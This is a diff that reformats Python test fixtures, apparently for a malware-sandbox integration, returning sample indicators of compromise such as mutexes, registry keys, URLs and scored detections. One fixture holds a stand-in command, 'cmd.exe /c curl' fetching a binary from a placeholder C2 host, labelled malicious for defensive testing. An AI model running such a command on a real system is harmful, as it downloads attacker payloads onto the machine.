@@ -73,10 +73,18 @@ def iocs() -> Json:
         ],
         "mutexes": [{"mutex_name": "Global\\M1", "operations": ["access"], "verdict": "suspicious"}],
         "processes": [
-            {"cmd_line": "cmd.exe /c curl http://c2.invalid/x.bin", "process_names": ["cmd.exe"], "verdict": "malicious"}
+            {
+                "cmd_line": "cmd.exe /c curl http://c2.invalid/x.bin",
+                "process_names": ["cmd.exe"],
+                "verdict": "malicious",
+            }
         ],
-        "registry": [{"reg_key_name": "HKEY_USERS\\S-1\\Run\\x", "operations": ["write"], "verdict": "clean"}],
-        "urls": [{"url": "https://c2.invalid:8443/a.b?q=1.2", "verdict": "malicious", "categories": ["Contacted"]}],
+        "registry": [
+            {"reg_key_name": "HKEY_USERS\\S-1\\Run\\x", "operations": ["write"], "verdict": "clean"}
+        ],
+        "urls": [
+            {"url": "https://c2.invalid:8443/a.b?q=1.2", "verdict": "malicious", "categories": ["Contacted"]}
+        ],
     }
 
 
@@ -85,7 +93,12 @@ def indicators() -> list[Json]:
     return [
         {"category": "Mutex", "operation": "Creates mutex", "score": 1, "classifications": []},
         {"category": "Antivirus", "operation": "Known malware", "score": 5, "classifications": ["Virus"]},
-        {"category": "Reputation", "operation": "Signed by a known vendor", "score": -1, "classifications": []},
+        {
+            "category": "Reputation",
+            "operation": "Signed by a known vendor",
+            "score": -1,
+            "classifications": [],
+        },
         {"category": "Heuristics", "operation": "Odd metadata", "score": 3, "classifications": []},
         {"category": "Old", "operation": "From an old server"},
     ]
